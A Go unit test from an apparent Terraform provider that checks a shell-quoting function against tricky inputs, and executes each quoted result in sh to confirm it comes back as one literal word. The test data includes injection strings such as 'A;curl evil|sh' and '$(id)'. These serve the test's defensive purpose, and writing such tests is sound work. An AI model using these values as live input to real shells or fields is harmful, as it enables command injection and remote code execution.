// Copyright (c) The terraform-provider-trustframework Authors
// SPDX-License-Identifier: MPL-2.0

package provider

import (
	"os/exec"
	"testing"
)

// TestShellQuote: a shell reads each text as one word, and that word is the text.
func TestShellQuote(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"B2C_1A_Signing/Gaid7K8s-O8R_x": "B2C_1A_Signing/Gaid7K8s-O8R_x",
		"B2C_1A_Signing/-x,y":           "B2C_1A_Signing/-x,y",
		"":                              "''",
		"-rf":                           "'-rf'",
		"A;curl evil|sh":                "'A;curl evil|sh'",
		"$(id)`id`\"${HOME}\"":          "'$(id)`id`\"${HOME}\"'",
		"it's":                          `'it'\''s'`,
		"~root":                         "'~root'",
		"*":                             "'*'",
		"{a,b}":                         "'{a,b}'",
		"a b":                           "'a b'",
		"#x":                            "'#x'",
		"ü":                             "'ü'",
		`a\b`:                           `'a\b'`,
	} {
		got := shellQuote(text)
		if got != want {
			t.Errorf("%q: got %s, want %s", text, got, want)
		}
		word, err := exec.CommandContext(t.Context(), "sh", "-c", "printf '%s|' "+got).CombinedOutput()
		if err != nil || string(word) != text+"|" {
			t.Errorf("%q: a shell reads %q, %v", text, word, err)
		}
	}
	if got, want := shellQuote("a\nb\x1b[2J\u202ec"), "'a?b?[2J?c'"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}
